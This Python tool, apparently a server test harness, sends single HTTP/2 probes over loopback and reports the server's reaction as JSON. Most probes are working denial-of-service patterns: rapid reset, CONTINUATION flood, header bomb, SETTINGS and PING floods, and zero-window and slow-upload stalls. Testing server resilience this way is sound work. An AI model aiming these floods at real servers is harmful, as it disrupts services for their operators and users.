#!/usr/bin/env python3
"""Frame-level HTTP/2 probes against a server speaking h2c by prior knowledge.

Each probe opens one plain TCP connection (meant for loopback), does one thing
to the server -- a well-behaved GET as a sanity check, or one of the known
HTTP/2 abuse patterns (rapid reset, CONTINUATION flood, SETTINGS/PING floods,
empty DATA floods, zero flow-control window, ...) -- and prints exactly one
line of JSON describing what the server did in return:

    python3 probes.py HOST PORT PROBE [--path /some/file] [--hold SECONDS]

Keys of the JSON line (always all present):
  probe               the probe's name
  goaway              error code of the first GOAWAY received, or null
  goaway_last_stream  last_stream_id of that GOAWAY, or null
  rst                 [[stream_id, error_code], ...] of RST_STREAM frames (first 50)
  responses           {"stream_id": status} of response HEADERS (first 50 streams)
  closed              true if the server closed the connection (EOF/ECONNRESET)
  bytes_sent          bytes the probe wrote
  seconds             elapsed time
  data_bytes          total DATA payload bytes received
  settings_acks       SETTINGS frames with ACK received
  ping_acks           PING frames with ACK received
  ended               [stream_id, ...] the server ended with END_STREAM (first 50)

Exit status: 0 when a probe ran (whatever the server did), 2 on a usage error
or when the connection could not be made. Every probe ends within 20 s.

The server's frames are read with a raw frame parser (hyperframe) rather than
the h2 state machine, so that the observation stays exact when the probe
breaks the protocol on purpose.  Request header blocks are encoded by hand as
HPACK literals without indexing, so they never depend on the dynamic table
and a block can be sent any number of times; the server's header blocks are
decoded with hpack to read :status.
"""

import argparse
import errno
import json
import select
import socket
import sys
import time

try:
    import hpack
    import hyperframe.frame as hf
except ImportError:  # an interpreter outside the system one: use Debian's copy
    sys.path.append("/usr/lib/python3/dist-packages")
    import hpack
    import hyperframe.frame as hf

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE_S = 19.0          # overall budget of one probe (under 20 s with start-up)
CONNECT_TIMEOUT_S = 5.0
STALL_S = 5.0              # a write that makes no progress this long gives up
READ_RESERVE_S = 3.0       # time kept for reading after a flood's writes
QUIET_S = 2.0              # settle: stop after this long without any byte
LIMIT = 50                 # at most this many rst / responses entries

# Error codes (RFC 9113, section 7) and settings identifiers.
CANCEL = 0x8
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
MAX_FRAME = 16384          # the smallest SETTINGS_MAX_FRAME_SIZE a peer may have

PROBE_NAMES = (
    "get", "rapid_reset", "continuation_flood", "header_bomb",
    "settings_flood", "ping_flood", "empty_data_flood", "zero_window",
    "data_after_end_stream", "bad_preface", "idle_stream_flood", "stalled_stream",
    "connection_window", "silent_upload", "trickle_upload", "body_first",
    "silent_delete",
)


# --- HPACK, by hand ----------------------------------------------------------

def _hpack_int(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541, 5.1); `first` holds the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """One field as 'literal without indexing, new name', no Huffman coding."""
    n, v = name.encode(), value.encode()
    return b"\x00" + _hpack_int(len(n), 7) + n + _hpack_int(len(v), 7) + v


def header_block(fields):
    return b"".join(hpack_literal(n, v) for n, v in fields)


def filler_fields(total):
    """About `total` bytes of valid HPACK: 'x-a: aaa...' fields of 128 bytes."""
    field = hpack_literal("x-a", "a" * 122)        # 1+1+3+1+122 = 128 bytes
    return field * max(1, total // len(field))


# --- frames ------------------------------------------------------------------

def frame(ftype, flags, stream_id, payload=b""):
    """A raw frame, so that a probe can send what hyperframe would refuse."""
    return (len(payload).to_bytes(3, "big") + bytes([ftype, flags])
            + (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload)


def settings_frame(settings=(), ack=False):
    payload = b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in settings)
    return frame(0x4, 0x1 if ack else 0x0, 0, payload)


def headers_frame(stream_id, block, end_stream=False, end_headers=True):
    flags = (0x1 if end_stream else 0) | (0x4 if end_headers else 0)
    return frame(0x1, flags, stream_id, block)


def continuation_frame(stream_id, block, end_headers=False):
    return frame(0x9, 0x4 if end_headers else 0x0, stream_id, block)


def data_frame(stream_id, payload=b"", end_stream=False):
    return frame(0x0, 0x1 if end_stream else 0x0, stream_id, payload)


def rst_frame(stream_id, code):
    return frame(0x3, 0x0, stream_id, code.to_bytes(4, "big"))


def ping_frame(opaque, ack=False):
    return frame(0x6, 0x1 if ack else 0x0, 0, opaque)


def window_update_frame(stream_id, increment):
    return frame(0x8, 0x0, stream_id, increment.to_bytes(4, "big"))


# --- the connection and its frame reader ---------------------------------------

class Conn:
    """A non-blocking socket, a byte counter and a raw frame reader."""

    def __init__(self, host, port, name):
        self.start = time.monotonic()
        self.deadline = self.start + DEADLINE_S
        self.sock = socket.create_connection((host, port), timeout=CONNECT_TIMEOUT_S)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.authority = ("[%s]:%d" if ":" in host else "%s:%d") % (host, port)
        self.obs = {
            "probe": name, "goaway": None, "goaway_last_stream": None,
            "rst": [], "responses": {}, "closed": False, "bytes_sent": 0,
            "seconds": 0.0, "data_bytes": 0, "settings_acks": 0, "ping_acks": 0,
        }
        self.rbuf = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.blocks = {}              # stream id -> header block being gathered
        self.ended = set()            # streams the server ended (END_STREAM)
        self.server_settings = 0      # non-ACK SETTINGS frames received
        self.write_failed = False
        self.auto_ack = True          # answer the server's SETTINGS and PING
        self.refill_windows = False   # send WINDOW_UPDATE for received DATA
        self.pending = bytearray()    # control frames to send at the next flush

    # time

    def remaining(self):
        return self.deadline - time.monotonic()

    def stopped(self):
        """True once the server sent GOAWAY, closed, or the budget is gone."""
        return (self.obs["goaway"] is not None or self.obs["closed"]
                or self.write_failed or self.remaining() <= 0)

    # writing

    def write(self, data, read_between=True):
        """Write all of `data`, reading the server's frames meanwhile when
        `read_between`.  Gives up (returning False) on EPIPE/ECONNRESET, when
        no progress is made for STALL_S, or READ_RESERVE_S before the
        deadline (that time is kept for reading the outcome)."""
        until = self.deadline - READ_RESERVE_S
        view = memoryview(bytes(data))
        last_progress = time.monotonic()
        while view:
            if self.write_failed:
                return False
            now = time.monotonic()
            wait = min(until - now, last_progress + STALL_S - now)
            if wait <= 0:
                return False
            rlist = [self.sock] if read_between and not self.obs["closed"] else []
            r, w, _ = select.select(rlist, [self.sock], [], wait)
            if r:
                self.read_available()
            if w:
                try:
                    n = self.sock.send(view)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError as e:
                    self._write_error(e)
                    return False
                self.obs["bytes_sent"] += n
                view = view[n:]
                last_progress = time.monotonic()
        return True

    def _write_error(self, e):
        self.write_failed = True
        if e.errno in (errno.EPIPE, errno.ECONNRESET):
            # A reset after the server's last frames leaves those frames in our
            # receive queue (Linux returns them before the error): read them, or
            # a GOAWAY that arrived between two writes is missed.
            self.read_available()
            self.obs["closed"] = True

    def flush(self):
        """Send the control frames (ACKs, WINDOW_UPDATEs) queued by the reader."""
        if self.pending and not self.write_failed:
            data, self.pending = bytes(self.pending), bytearray()
            self.write(data)

    # reading

    def read_available(self):
        """Read what the socket has now (without blocking) and parse it."""
        while not self.obs["closed"]:
            try:
                chunk = self.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:               # ECONNRESET and the like
                self.obs["closed"] = True
                break
            if not chunk:
                self.obs["closed"] = True
                break
            self.rbuf += chunk
            self._parse()
            if len(chunk) < 65536:
                break

    def wait_readable(self, timeout):
        """Block up to `timeout` for data; read it. False if nothing came."""
        if self.obs["closed"] or timeout <= 0:
            return False
        r, _, _ = select.select([self.sock], [], [], timeout)
        if r:
            self.read_available()
        return bool(r)

    def settle(self, done=lambda: False, quiet=QUIET_S, hold=None):
        """Read until `done()`, the server closes, `quiet` seconds pass with no
        byte, `hold` seconds pass, or the deadline.  After a GOAWAY, waits at
        most a second more for the server to close."""
        end = self.deadline if hold is None else min(self.deadline, time.monotonic() + hold)
        goaway_end = None
        last_byte = time.monotonic()
        while not self.obs["closed"] and not done():
            now = time.monotonic()
            if self.obs["goaway"] is not None and goaway_end is None:
                goaway_end = now + 1.0
            limit = end
            if hold is None:
                limit = min(limit, last_byte + quiet)
            if goaway_end is not None:
                limit = min(limit, goaway_end)
            if now >= limit:
                break
            if self.wait_readable(limit - now):
                last_byte = time.monotonic()
            self.flush()

    def _parse(self):
        while len(self.rbuf) >= 9:
            length = int.from_bytes(self.rbuf[0:3], "big")
            if len(self.rbuf) < 9 + length:
                return
            head = memoryview(bytes(self.rbuf[:9]))
            body = memoryview(bytes(self.rbuf[9:9 + length]))
            del self.rbuf[:9 + length]
            try:
                f, _ = hf.Frame.parse_frame_header(head)
                f.parse_body(body)
            except Exception:             # a malformed frame: skip it
                continue
            self._on_frame(f)

    def _on_frame(self, f):
        obs = self.obs
        if isinstance(f, hf.GoAwayFrame):
            if obs["goaway"] is None:
                obs["goaway"] = f.error_code
                obs["goaway_last_stream"] = f.last_stream_id
        elif isinstance(f, hf.RstStreamFrame):
            if len(obs["rst"]) < LIMIT:
                obs["rst"].append([f.stream_id, f.error_code])
        elif isinstance(f, hf.SettingsFrame):
            if "ACK" in f.flags:
                obs["settings_acks"] += 1
            else:
                self.server_settings += 1
                if self.auto_ack:
                    self.pending += settings_frame(ack=True)
        elif isinstance(f, hf.PingFrame):
            if "ACK" in f.flags:
                obs["ping_acks"] += 1
            elif self.auto_ack:
                self.pending += ping_frame(f.opaque_data, ack=True)
        elif isinstance(f, hf.DataFrame):
            obs["data_bytes"] += len(f.data)
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
            n = f.flow_controlled_length
            if self.refill_windows and n:
                self.pending += window_update_frame(0, n)
                if "END_STREAM" not in f.flags:
                    self.pending += window_update_frame(f.stream_id, n)
        elif isinstance(f, (hf.HeadersFrame, hf.PushPromiseFrame)):
            if "END_STREAM" in f.flags:
                self.ended.add(f.stream_id)
            self.blocks[f.stream_id] = [isinstance(f, hf.HeadersFrame), bytearray(f.data)]
            if "END_HEADERS" in f.flags:
                self._header_block_done(f.stream_id)
        elif isinstance(f, hf.ContinuationFrame):
            if f.stream_id in self.blocks:
                self.blocks[f.stream_id][1] += f.data
                if "END_HEADERS" in f.flags:
                    self._header_block_done(f.stream_id)

    def _header_block_done(self, stream_id):
        is_response, block = self.blocks.pop(stream_id)
        try:   # decode every block, pushes too, to keep the HPACK table in step
            fields = self.decoder.decode(bytes(block))
        except Exception:
            fields = [(":status", "-1")] if is_response else []
        if not is_response:
            return
        status = next((v for n, v in fields if n == ":status"), None)
        if status is None:              # trailers
            return
        responses = self.obs["responses"]
        key = str(stream_id)
        if key in responses or len(responses) < LIMIT:
            try:
                responses[key] = int(status)   # a final status replaces a 1xx
            except ValueError:
                responses[key] = -1

    # start and end

    def handshake(self, settings=((SETTINGS_ENABLE_PUSH, 0),)):
        """Client preface and SETTINGS; wait briefly for the server's SETTINGS
        and ACK it."""
        self.write(PREFACE + settings_frame(settings))
        end = time.monotonic() + 2.0
        while self.server_settings == 0 and not self.stopped() and time.monotonic() < end:
            self.wait_readable(end - time.monotonic())
        self.flush()

    def request(self, method, path):
        return header_block([(":method", method), (":scheme", "http"),
                             (":authority", self.authority), (":path", path)])

    def result(self):
        self.obs["seconds"] = round(time.monotonic() - self.start, 3)
        self.obs["ended"] = sorted(self.ended)[:LIMIT]
        try:
            self.sock.close()
        except OSError:
            pass
        return self.obs


# --- the probes --------------------------------------------------------------

def probe_get(c, args):
    """A well-behaved client: one GET, read until the response ends."""
    c.refill_windows = True
    c.handshake()
    c.write(headers_frame(1, c.request("GET", args.path), end_stream=True))
    c.settle(done=lambda: 1 in c.ended or any(s == 1 for s, _ in c.obs["rst"]),
             quiet=c.remaining())


def probe_rapid_reset(c, args):
    """HEADERS(END_STREAM) + RST_STREAM(CANCEL), 20000 times, in batches."""
    c.handshake()
    block = c.request("GET", args.path)
    stream, opened, batch = 1, 0, 100
    while opened < 20000 and not c.stopped():
        out = bytearray()
        for _ in range(min(batch, 20000 - opened)):
            out += headers_frame(stream, block, end_stream=True)
            out += rst_frame(stream, CANCEL)
            stream += 2
            opened += 1
        if not c.write(out):
            break
        c.read_available()
        c.flush()
    c.settle()


def probe_continuation_flood(c, args):
    """HEADERS without END_HEADERS, then up to 10000 CONTINUATION of 16 KB each."""
    c.handshake()
    c.write(headers_frame(1, c.request("GET", args.path), end_stream=True,
                          end_headers=False))
    cont = continuation_frame(1, filler_fields(MAX_FRAME))
    sent, batch = 0, 8
    while sent < 10000 and not c.stopped():
        n = min(batch, 10000 - sent)
        if not c.write(cont * n):
            break
        sent += n
    c.settle()


def probe_header_bomb(c, args):
    """One ~1 MB header block for a GET, split correctly into HEADERS and
    CONTINUATION frames of 16384 bytes, END_HEADERS on the last."""
    c.handshake()
    block = c.request("GET", args.path) + filler_fields(1 << 20)
    chunks = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)]
    out = bytearray(headers_frame(1, chunks[0], end_stream=True,
                                  end_headers=len(chunks) == 1))
    for i, chunk in enumerate(chunks[1:], start=2):
        out += continuation_frame(1, chunk, end_headers=i == len(chunks))
    c.write(out)
    c.settle(done=lambda: 1 in c.ended or any(s == 1 for s, _ in c.obs["rst"]))


def probe_settings_flood(c, args):
    """10000 SETTINGS frames, written without reading the ACKs."""
    c.handshake()
    one = settings_frame([(SETTINGS_MAX_CONCURRENT_STREAMS, 100)])
    c.write(one * 10000, read_between=False)
    c.settle(done=lambda: c.obs["settings_acks"] >= 10001)


def probe_ping_flood(c, args):
    """10000 PING frames, written without reading the ACKs."""
    c.handshake()
    out = b"".join(ping_frame(i.to_bytes(8, "big")) for i in range(10000))
    c.write(out, read_between=False)
    c.settle(done=lambda: c.obs["ping_acks"] >= 10000)


def probe_empty_data_flood(c, args):
    """A POST on stream 1, then 10000 DATA frames with empty payload."""
    c.handshake()
    c.write(headers_frame(1, c.request("POST", args.path)))
    empty = data_frame(1)
    sent, batch = 0, 500
    while sent < 10000 and not c.stopped():
        n = min(batch, 10000 - sent)
        if not c.write(empty * n):
            break
        sent += n
        c.read_available()
        c.flush()
    c.settle()


def probe_zero_window(c, args):
    """SETTINGS_INITIAL_WINDOW_SIZE=0, never a WINDOW_UPDATE, then a GET;
    watch for --hold seconds."""
    c.handshake(settings=((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, 0)))
    c.write(headers_frame(1, c.request("GET", args.path), end_stream=True))
    c.settle(hold=max(0.0, args.hold))


def probe_connection_window(c, args):
    """A GET with the default windows (65535) and never a WINDOW_UPDATE: the connection's
    window closes with the stream's; watch for --hold seconds."""
    c.handshake()
    c.write(headers_frame(1, c.request("GET", args.path), end_stream=True))
    c.settle(hold=max(0.0, args.hold))


def trickle(c, stream, args):
    """Opens `stream`'s window by 16 KiB every 0.1 s until it ends, stream 1 is reset, or
    --hold seconds: a connection that keeps moving while stream 1 does not."""
    end = min(c.deadline - READ_RESERVE_S, time.monotonic() + args.hold)
    while not c.stopped() and stream not in c.ended and time.monotonic() < end:
        c.write(window_update_frame(stream, MAX_FRAME))
        tick = time.monotonic() + 0.1
        while not c.stopped() and time.monotonic() < tick:
            c.wait_readable(tick - time.monotonic())
        c.flush()
    c.settle(done=lambda: stream in c.ended and any(s == 1 for s, _ in c.obs["rst"]),
             quiet=1.0)


def probe_stalled_stream(c, args):
    """SETTINGS_INITIAL_WINDOW_SIZE=0 and a connection window of 2^30; GETs on streams 1
    and 3. Stream 1's window never opens; stream 3's is trickled (trickle)."""
    c.handshake(settings=((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, 0)))
    block = c.request("GET", args.path)
    c.write(window_update_frame(0, (1 << 30) - 65535)
            + headers_frame(1, block, end_stream=True) + headers_frame(3, block, end_stream=True))
    trickle(c, 3, args)


def probe_silent_upload(c, args):
    """Stream 1: PUT /silent-upload with Content-Length 100 and never a byte of body; stream
    3: a GET of --path whose window is trickled (trickle), as in stalled_stream."""
    c.handshake(settings=((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, 0)))
    put = header_block([(":method", "PUT"), (":scheme", "http"), (":authority", c.authority),
                        (":path", "/silent-upload"), ("content-length", "100")])
    c.write(window_update_frame(0, (1 << 30) - 65535) + headers_frame(1, put)
            + headers_frame(3, c.request("GET", args.path), end_stream=True))
    trickle(c, 3, args)


def probe_trickle_upload(c, args):
    """Stream 1: PUT /trickle-upload with Content-Length 1000, then a byte of body every
    0.2 s until the server resets it or --hold seconds."""
    c.handshake()
    put = header_block([(":method", "PUT"), (":scheme", "http"), (":authority", c.authority),
                        (":path", "/trickle-upload"), ("content-length", "1000")])
    c.write(headers_frame(1, put))
    end = min(c.deadline - READ_RESERVE_S, time.monotonic() + args.hold)
    while not c.stopped() and not c.obs["rst"] and time.monotonic() < end:
        c.write(data_frame(1, b"x"))
        tick = time.monotonic() + 0.2
        while not c.stopped() and time.monotonic() < tick:
            c.wait_readable(tick - time.monotonic())
        c.flush()
    c.settle(done=lambda: bool(c.obs["rst"]), quiet=1.0)


def probe_body_first(c, args):
    """DELETEs with bodies, which no handler takes: stream 1 of --path + "-reset" sends
    "abc" and is reset (CANCEL) before its END_STREAM; stream 3 of --path + "-whole" sends
    "abc" and ends; stream 5 of --path + "-large" sends 80 KiB and ends."""
    c.handshake()

    def delete(suffix):
        return c.request("DELETE", args.path + suffix)
    c.write(headers_frame(1, delete("-reset")) + data_frame(1, b"abc"))
    c.settle(quiet=0.3, hold=0.3)
    c.write(rst_frame(1, CANCEL))
    c.write(headers_frame(3, delete("-whole")) + data_frame(3, b"abc", end_stream=True))
    large = bytearray(headers_frame(5, delete("-large")))
    for i in range(5):
        large += data_frame(5, b"x" * MAX_FRAME, end_stream=(i == 4))
    c.write(bytes(large))
    c.settle(done=lambda: 3 in c.ended and 5 in c.ended)


def probe_silent_delete(c, args):
    """Stream 1: DELETE --path with DATA "abc" and never its END_STREAM; watched until the
    server resets it or --hold seconds."""
    c.handshake()
    c.write(headers_frame(1, c.request("DELETE", args.path)) + data_frame(1, b"abc"))
    c.settle(done=lambda: bool(c.obs["rst"]), quiet=args.hold, hold=args.hold)


def probe_data_after_end_stream(c, args):
    """GET with END_STREAM on stream 1, then DATA "x" on that closed stream."""
    c.handshake()
    c.write(headers_frame(1, c.request("GET", args.path), end_stream=True)
            + data_frame(1, b"x"))
    c.settle(done=lambda: any(s == 1 for s, _ in c.obs["rst"]))


def probe_bad_preface(c, args):
    """A client preface with the wrong magic, then a SETTINGS frame."""
    c.write(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + settings_frame())
    c.settle()


def probe_idle_stream_flood(c, args):
    """1000 POST streams opened and never given a body."""
    c.handshake()
    block = c.request("POST", args.path)
    stream, opened, batch = 1, 0, 50
    while opened < 1000 and not c.stopped():
        out = bytearray()
        for _ in range(min(batch, 1000 - opened)):
            out += headers_frame(stream, block)
            stream += 2
            opened += 1
        if not c.write(out):
            break
        c.read_available()
        c.flush()
    c.settle()


PROBES = {name: globals()["probe_" + name] for name in PROBE_NAMES}


def main(argv=None):
    ap = argparse.ArgumentParser(description="Frame-level HTTP/2 (h2c) probes.")
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("probe", choices=PROBE_NAMES)
    ap.add_argument("--path", default="/", help="request path (default /)")
    ap.add_argument("--hold", type=float, default=5.0,
                    help="seconds zero_window, stalled_stream, silent_upload, "
                         "trickle_upload and connection_window keep watching (default 5)")
    args = ap.parse_args(argv)          # exits 2 on a usage error
    if not args.path.startswith("/"):
        ap.error("--path must start with /")
    try:
        c = Conn(args.host, args.port, args.probe)
    except OSError as e:
        print("probes.py: cannot connect to %s:%d: %s" % (args.host, args.port, e),
              file=sys.stderr)
        return 2
    try:
        PROBES[args.probe](c, args)
    except OSError as e:                # anything the socket layer still throws
        c._write_error(e)
    print(json.dumps(c.result(), sort_keys=False))
    return 0


if __name__ == "__main__":
    sys.exit(main())
